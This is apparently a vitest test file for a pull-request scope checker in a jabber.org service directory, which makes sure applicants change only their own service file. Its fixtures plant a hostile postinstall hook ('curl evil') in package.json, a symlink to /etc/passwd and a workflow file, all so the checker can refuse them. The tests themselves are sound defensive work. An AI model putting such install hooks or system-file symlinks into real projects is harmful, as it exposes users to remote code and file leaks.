/**
 * `npm run check:pr` on real git history (issue 22): an applicant's pull
 * request may only add or change its own content/services/<domain>.md.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { prScopeProblems } from '../src/lib/directory/pr-scope.ts';

const script = resolve('scripts/check-pr.ts');
let repo: string;
afterEach(() => rmSync(repo, { recursive: true, force: true }));

/** A repository with a main branch holding a site, and a branch `pr` made by `change`. */
function pullRequest(change: (dir: string) => void) {
  repo = mkdtempSync(join(tmpdir(), 'check-pr-'));
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: repo, encoding: 'utf8' });
  git('init', '-q', '-b', 'main');
  mkdirSync(join(repo, 'content/services'), { recursive: true });
  writeFileSync(join(repo, 'content/services/chat.sample.jabber.org.md'), 'listed\n');
  writeFileSync(join(repo, 'package.json'), '{}\n');
  git('add', '-A');
  git('commit', '-q', '-m', 'base');
  git('checkout', '-q', '-b', 'pr');
  change(repo);
  git('add', '-A');
  git('commit', '-q', '--allow-empty', '-m', 'pr');
  const run = spawnSync(process.execPath, [script, '--base', 'main'], { cwd: repo, encoding: 'utf8' });
  return { code: run.status, out: `${run.stdout}${run.stderr}` };
}

test('adding one service file passes', () => {
  expect(pullRequest((d) => writeFileSync(join(d, 'content/services/talk.sample.jabber.org.md'), 'new\n'))).toEqual({
    code: 0,
    out: 'The pull request changes only its own service file. Run npm run check to validate it.\n',
  });
});

test('a pull request that also changes code, a workflow or another service is refused, file by file', () => {
  const run = pullRequest((d) => {
    writeFileSync(join(d, 'content/services/talk.sample.jabber.org.md'), 'new\n');
    writeFileSync(join(d, 'package.json'), '{"scripts":{"postinstall":"curl evil"}}\n');
    mkdirSync(join(d, '.github/workflows'), { recursive: true });
    writeFileSync(join(d, '.github/workflows/x.yml'), 'on: push\n');
    rmSync(join(d, 'content/services/chat.sample.jabber.org.md'));
  });
  expect(run.code).toBe(1);
  expect(run.out).toMatchInlineSnapshot(`
    ".github/workflows/x.yml: an application may only add or change its own content/services/<domain>.md; this file needs a jabber.org admin. Remove the change from the pull request
    content/services/chat.sample.jabber.org.md: an application may not delete a service file. Ask the jabber.org admins to withdraw a service (the "withdrawn" field)
    package.json: an application may only add or change its own content/services/<domain>.md; this file needs a jabber.org admin. Remove the change from the pull request
    The pull request changes 2 service files (content/services/chat.sample.jabber.org.md, content/services/talk.sample.jabber.org.md); an application covers one service. Open one pull request per service

    4 problems: an application may only add or change its own content/services/<domain>.md.
    "
  `);
});

test('a service file that is a symbolic link is refused', () => {
  const run = pullRequest((d) => symlinkSync('/etc/passwd', join(d, 'content/services/talk.sample.jabber.org.md')));
  expect(run.code).toBe(1);
  expect(run.out).toContain('content/services/talk.sample.jabber.org.md: is a symbolic link; commit the file itself');
});

test('two services in one pull request, and the template, are refused', () => {
  expect(
    prScopeProblems([
      { status: 'A', path: 'content/services/a.sample.jabber.org.md', mode: '100644' },
      { status: 'M', path: 'content/services/_template.md', mode: '100644' },
      { status: 'M', path: 'content/services/b.sample.jabber.org.md', mode: '100644' },
    ]),
  ).toEqual([
    'content/services/_template.md: an application may only add or change its own content/services/<domain>.md; this file needs a jabber.org admin. Remove the change from the pull request',
    'The pull request changes 2 service files (content/services/a.sample.jabber.org.md, content/services/b.sample.jabber.org.md); an application covers one service. Open one pull request per service',
  ]);
});
